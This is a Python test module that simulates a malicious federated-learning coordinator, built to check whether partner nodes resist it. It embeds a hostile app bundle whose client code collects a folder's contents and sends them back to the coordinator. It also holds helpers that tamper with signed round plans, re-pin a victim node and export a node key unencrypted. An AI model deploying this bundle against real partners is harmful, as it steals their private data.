"""A coordinator that everybody enrolled with, with valid TLS, that submits an app bundle of its own making."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import pwd
import secrets
import signal
import subprocess
import time
import tomllib
import urllib.request
import warnings
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from importlib.metadata import distribution
from pathlib import Path
from typing import Any

import polars as pl
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from client.data.ingest import INTERACTIONS_FILE, ITEMS_FILE, RawData, write
from client.node_settings import NODE_FOLDER, NodeSettings
from server.settings import ServerSettings
from shared.catalogue import read_catalogue
from shared.config import FederationConfig, ModelConfig, PriorConfig, PrivacyConfig, RunConfig, TrainingConfig
from shared.hazmat.key_files import Passphrase, write_once
from shared.hazmat.node_keys import NodeKey
from shared.hazmat.signing import SigningKey
from shared.messages import ROUND_PLAN, RoundPlan, SignedPlan
from shared.privacy.accounting import build_plan
from shared.requests import KeysRequest
from shared.watched import CALM
from shared.wire import pack_request
from shared.wire_frames import to_frame
from simulations.one_machine import PASSPHRASE_FILE, Deployment

SECRET = "hates her neighbour"
VICTIM, CARELESS, THIRD = "birch", "alder", "cedar"
CONFIG = RunConfig(
    simulation=False,
    seed=None,
    model=ModelConfig(adapted_layers=1, lora_rank=2, lora_alpha=4, head_rank=2, max_events=8),
    prior=PriorConfig(kind="popularity"),
    training=TrainingConfig(rounds=2, sampling_rate=0.5, drop_events=0.0),
    privacy=PrivacyConfig(population=60, noise_multiplier=3.0),
    federation=FederationConfig(partners=3),
)
PADDING = 3 * 2**20
"""Bytes that make the hostile bundle heavy: who has fetched it has at least so many."""
SERVER_APP = '''
"""Sends whatever is laid on its desk, to every node."""
import base64, json, time
from pathlib import Path
from flwr.app import Message
from flwr.serverapp import ServerApp
from shared.wire_frames import from_frame, to_frame

app = ServerApp()

def told(reply):
    if reply.has_error():
        return {"node": reply.metadata.src_node_id, "error": str(reply.error)}
    return {"node": reply.metadata.src_node_id, "frame": base64.b64encode(to_frame(reply.content)).decode()}

@app.main()
def main(grid, context):
    desk = Path(context.run_config["data-root"]) / "desk"
    while True:
        for order in desk.glob("*.order"):
            asked = json.loads(order.read_text())
            frames = [base64.b64decode(frame) for frame in asked["frames"]]
            while len(nodes := list(grid.get_node_ids())) < asked["nodes"]:
                time.sleep(0.1)
            sent = [Message(from_frame(f), node, "train") for f in frames for node in nodes]
            answers = json.dumps([told(reply) for reply in grid.send_and_receive(sent, timeout=40.0)])
            order.unlink()
            order.with_suffix(".part").write_text(answers)
            order.with_suffix(".part").rename(order.with_suffix(".answers"))
        time.sleep(0.1)
'''
CLIENT_APP = '''
"""Takes all that it can from the folder that the message names, and sends it home."""
import json, os
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from veilrec_app.plunder import plunder

app = ClientApp()

@app.train()
def train(message, context):
    told = message.content["steal"]
    (Path(told["marks"]) / str(os.getpid())).write_text("the bundle ran")
    loot = json.dumps(plunder(Path(told["folder"])))
    return Message(RecordDict({"loot": ConfigRecord({"json": loot})}), reply_to=message)
'''


AS_USER = """
import os, pwd, sys
owner = pwd.getpwnam(sys.argv[1])
os.setgroups([])
os.setgid(owner.pw_gid)
os.setuid(owner.pw_uid)
names = ("PYTHONPATH", "LD_LIBRARY_PATH", *sys.argv[2].split())
kept = {name: os.environ[name] for name in names if name in os.environ}
os.execve(sys.executable, [sys.executable, *sys.argv[3:]], kept)
"""
"""Python, as another user, in none of one's own groups and with the named part of one's environment."""


@dataclass
class Hostile(Deployment):
    """A deployment whose coordinator submits `SERVER_APP` and `CLIENT_APP` and sends what it is told to."""

    bundle: str = ""

    @property
    def victim(self) -> Path:
        """The folder of the partner that is attacked."""
        return self.folder(VICTIM)

    @property
    def marks(self) -> Path:
        """Where code of the bundle leaves a mark, whoever runs it."""
        return self.root / "marks"

    def spent(self) -> dict[str, bytes]:
        """All that the victim keeps of rounds: its ledger, and the files of runs."""
        files = [self.victim / "ledger.jsonl", *sorted((self.victim / "runs").rglob("*"))]
        return {str(file): file.read_bytes() for file in files if file.is_file()}

    def turn_hostile(self) -> str:
        """Replace the app that the coordinator submits by one of its own; the hash of the bundle."""
        from flwr.cli.build import build_fab_from_disk

        package = self.home / "app" / "veilrec_app"
        (package / "server.py").write_text(SERVER_APP)
        (package / "client.py").write_text(CLIENT_APP)
        (package / "plunder.py").write_text(Path(__file__).with_name("plunder.py").read_text())
        padding = base64.b85encode(secrets.token_bytes(PADDING)).decode()
        (package / "padding.py").write_text(f'"""{padding.translate({34: "_", 92: "_"})}"""\n')
        (self.home / "desk").mkdir()
        self.marks.mkdir()
        self.marks.chmod(0o777)
        with warnings.catch_warnings():  # Flower's, about a pattern of pathspec's
            warnings.filterwarnings("ignore", "GitWildMatchPattern", DeprecationWarning)
            return hashlib.sha256(build_fab_from_disk(self.home / "app")).hexdigest()

    def pin(self, bundle: str) -> None:
        """As if the victim had agreed to the hostile bundle: its node is started again with it."""
        folder = self.victim / NODE_FOLDER
        owner = (folder / "node.toml").stat()
        settings = NodeSettings.model_validate(tomllib.loads((folder / "node.toml").read_text()))
        settings.model_copy(update={"bundles": (bundle,)}).write(folder)
        os.chown(folder / "node.toml", owner.st_uid, owner.st_gid)
        for pid in self.nodes():
            os.kill(pid, signal.SIGTERM)

    def as_user(self, name: str, *arguments: str, timeout_s: float = 60) -> str:
        """The output of a Python program that another user runs."""
        command = [*self.python, "-c", AS_USER, name, "", *arguments]
        done = subprocess.run(command, cwd="/", capture_output=True, text=True, timeout=timeout_s, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def nodes(self) -> list[int]:
        """The processes of the victim's node."""
        return [pid for pid in self.pids("partner_process node") if VICTIM in command_of(pid)]

    def agent(self) -> int:
        """The process of the victim's agent."""
        return next(pid for pid in self.pids("partner_process agent") if VICTIM in command_of(pid))

    def ask(self, *frames: bytes, nodes: int = 1, timeout_s: float = 60) -> list[list[dict[str, Any]]]:
        """Have the coordinator send contents of messages to all nodes, once so many are there; the answers, by node."""
        order = self.home / "desk" / f"{secrets.token_hex(4)}.order"
        part = order.with_suffix(".new")
        part.write_text(json.dumps({"nodes": nodes, "frames": [base64.b64encode(f).decode() for f in frames]}))
        part.rename(order)
        answers = order.with_suffix(".answers")
        self.wait(answers.exists, timeout_s, "answers to what the hostile coordinator sent")
        told: list[dict[str, Any]] = json.loads(answers.read_text())
        by_node: dict[int, list[dict[str, Any]]] = {}
        for answer in told:
            by_node.setdefault(answer["node"], []).append(answer)
        return list(by_node.values())

    def signed(self, changes: Mapping[str, Any] | None = None, key: SigningKey | None = None) -> bytes:
        """The first message of an honest round but for `changes` of its plan, signed all the same.

        Parameters
        ----------
        changes : mapping, optional
            Values by their path in the plan: ``section.key``.
        key : SigningKey, optional
            The coordinator's own by default.
        """
        catalogue = read_catalogue(self.home / "items.parquet").digest
        honest = RoundPlan("hostile", 1, "prior", CONFIG, build_plan(CONFIG), catalogue, "", secrets.token_hex(16))
        tree = json.loads(honest.text())
        for path, value in (changes or {}).items():
            *sections, last = path.split(".")
            branch = tree
            for section in sections:
                branch = branch[section]
            branch[last] = value
        text = json.dumps(tree, sort_keys=True)
        signature = (key or SigningKey.load(self.home / "server.key", passphrase_of(self))).sign(
            ROUND_PLAN, text.encode()
        )
        return to_frame(pack_request(KeysRequest(SignedPlan(text, signature))))

    def consistent(self, changes: Mapping[str, Any]) -> bytes:
        """The same, where the privacy plan follows from the changed configuration, as an agent demands."""
        tree = CONFIG.model_dump()
        for path, value in changes.items():
            section, _, key = path.partition(".")
            tree[section] = {**tree[section], key: value} if key else value
        config = RunConfig.model_validate(tree)
        return self.signed({"config": config.model_dump(mode="json"), "plan": build_plan(config).told()})

    def received(self, name: str) -> int:
        """Bytes that the gate has given a partner's node."""
        address = f"http://127.0.0.1:{ServerSettings.open(self.home).page_port}/status.json"
        with urllib.request.urlopen(address, timeout=10) as answer:
            rows = json.loads(answer.read())["partners"]
        return int(next(row["bytes_out"] for row in rows if row["name"] == name))

    @contextmanager
    def stock_node(self, user: str, settings: str = "") -> Iterator[None]:
        """Flower's own SuperNode with the careless partner's key, run by a user of this machine."""
        with stock_node(self, CARELESS, user, settings):
            yield


def command_of(pid: int) -> str:
    """The command line of a process; empty once it is gone."""
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return ""


@contextmanager
def stock_node(deployment: Deployment, name: str, user: str | None, settings: str = "") -> Iterator[Path]:
    """Flower's SuperNode, as its users start it: subprocess isolation, an unencrypted node key; yields its log."""
    home = deployment.root / f"stock-{secrets.token_hex(4)}"
    home.mkdir()
    private, _ = NodeKey.load(deployment.folder(name) / NODE_FOLDER / "node.key", passphrase_of(deployment)).pair
    write_once(home / "node.key", private.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption()))
    (home / "ca.crt").write_bytes((deployment.home / "ca.crt").read_bytes())
    programs = _programs(home, deployment)
    if user is not None:
        owner = pwd.getpwnam(user)
        for path in (home, *home.rglob("*")):
            os.chown(path, owner.pw_uid, owner.pw_gid)
    arguments = [
        str(programs / "flower-supernode"),
        "--superlink", ServerSettings.open(deployment.home).address,
        "--root-certificates", str(home / "ca.crt"),
        "--auth-supernode-private-key", str(home / "node.key"),
        "--host", "127.0.0.1",
        "--port", str(free_port()),
        *(["--node-config", settings] if settings else []),
    ]  # fmt: skip
    own = {**CALM, "PATH": f"{programs}:/usr/bin:/bin", "FLWR_HOME": str(home / "flwr"), "HOME": str(home)}
    drop = [] if user is None else ["-c", AS_USER, user, " ".join(own)]
    log = home.with_suffix(".log")
    with log.open("wb") as out:
        command, environment = [*deployment.python, *drop, *arguments], {**os.environ, **own}
        process = subprocess.Popen(command, stdout=out, stderr=out, cwd=home, env=environment, start_new_session=True)
        try:
            yield log
        finally:
            process.terminate()
            with suppress(subprocess.TimeoutExpired):
                process.wait(10)
            with suppress(ProcessLookupError):
                os.killpg(process.pid, 9)
            process.wait(10)


def _programs(home: Path, deployment: Deployment) -> Path:
    """Flower's programs, which start each other by name, for a Python that any user can run."""
    where = [*deployment.python, "-c", "import sys; print(sys.executable)"]
    python = subprocess.run(where, check=True, capture_output=True, text=True).stdout.strip()
    folder = home / "programs"
    folder.mkdir()
    for program in distribution("flwr").entry_points.select(group="console_scripts"):
        file = folder / program.name
        file.write_text(f"#!{python}\nfrom {program.module} import {program.attr} as main\nmain()\n")
        file.chmod(0o755)
    return folder


def passphrase_of(deployment: Deployment) -> Passphrase:
    """What all keys of a deployment on one machine are encrypted with."""
    return Passphrase.read(deployment.root / PASSPHRASE_FILE)


def free_port() -> int:
    """A port of loopback that is free now."""
    import socket

    with socket.create_server(("127.0.0.1", 0)) as made:
        return int(made.getsockname()[1])


def soon(holds: Callable[[], bool], timeout_s: float, what: str) -> None:
    """Wait until something holds."""
    until = time.monotonic() + timeout_s
    while not holds():
        assert time.monotonic() < until, f"Expected {what} within {timeout_s:g} s."
        time.sleep(0.1)


def data_of(partner: int) -> RawData:
    """Users with five purchases each, each with one review."""
    rows = [
        (f"user {partner} {u}", f"item {(partner + 3 * u + e) % 10}", e, "purchase", None, SECRET if e == 2 else "")
        for u in range(6)
        for e in range(5)
    ]
    columns = ("user_id", "item_id", "timestamp", "event", "rating", "review")
    types = (pl.String, pl.String, pl.Int64, pl.String, pl.Float64, pl.String)
    ids = [f"item {k}" for k in range(10)]
    items = pl.DataFrame(
        {"item_id": ids, "title": [f"Lamp {k}" for k in range(10)], "text": "A lamp.", "categories": ""}
    )
    return RawData("lamps", pl.DataFrame(rows, schema=dict(zip(columns, types, strict=True)), orient="row"), items)


def given(root: Path) -> tuple[Path, dict[str, Path]]:
    """The catalogue, and each partner's events."""
    for k, name in enumerate((CARELESS, VICTIM, THIRD)):
        write(data_of(k), root / "given" / name)
    events = {name: root / "given" / name / INTERACTIONS_FILE for name in (CARELESS, VICTIM, THIRD)}
    return root / "given" / VICTIM / ITEMS_FILE, events
